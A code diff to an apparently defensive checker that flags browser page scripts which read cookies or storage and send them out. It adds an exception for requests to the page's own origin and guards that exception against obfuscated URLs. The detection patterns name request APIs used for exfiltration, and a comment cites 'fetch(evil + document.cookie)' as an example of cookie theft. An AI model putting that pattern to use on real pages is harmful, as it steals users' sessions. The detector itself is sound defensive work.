@@ -240,6 +240,21 @@ _PAGE_SEND = re.compile(r"fetch\s*\(|XMLHttpRequest|sendBeacon|WebSocket|EventSo
 # a tool whose one job is the model's own reasoning (sequentialthinking, think): it hands
 # the thought back, it sends nothing
 _THINKING_TOOL = re.compile(r"^(?:sequential_?)?think(?:ing)?$", re.I)
+# a page script's request to a path of its own origin (fetch('/api/me', ...)): what it
+# sends goes back to the site that stored it; no address, no escape, no decoding anywhere
+_SAME_ORIGIN_FETCH = re.compile(r"fetch\s*\(\s*(['\"`])/[A-Za-z0-9_.~-]")
+_PAGE_URL_MAKERS = re.compile(r"://|\\|atob|fromCharCode|fromCodePoint|unescape|decodeURI|eval|Function|String\s*\.\s*raw"
+                              r"|\bURL\s*\(|baseURI|<base", re.I)
+
+
+def _same_origin_sends(script: str) -> bool:
+    """Is every request a page script makes a fetch of a literal path on its own origin?"""
+    if _PAGE_URL_MAKERS.search(script):
+        return False
+    return all(m.group(0).startswith("fetch") and _SAME_ORIGIN_FETCH.match(script, m.start())
+               for m in _PAGE_SEND.finditer(script))
+
+
 _MEMO_TEXT = 1024   # texts up to this length have their pattern hits remembered
 # risky findings that may be a catastrophe the analysis could not rule out
 _UNSURE_CATASTROPHES = frozenset({"rm_recursive_unknown", "code_catastrophe_unknown"})
@@ -2288,7 +2303,7 @@ class _Evaluation:
             hit = credential_in(v)
             if hit is not None:
                 return hit
-            if browser and _PAGE_SECRET.search(v) and _PAGE_SEND.search(v):
+            if browser and _PAGE_SECRET.search(v) and _PAGE_SEND.search(v) and not _same_origin_sends(v):
                 # a page script that reads the session's cookies or storage and makes a
                 # request (fetch(evil + document.cookie), an image's src, a beacon)
                 return _PAGE_SECRET.search(v).group(0)
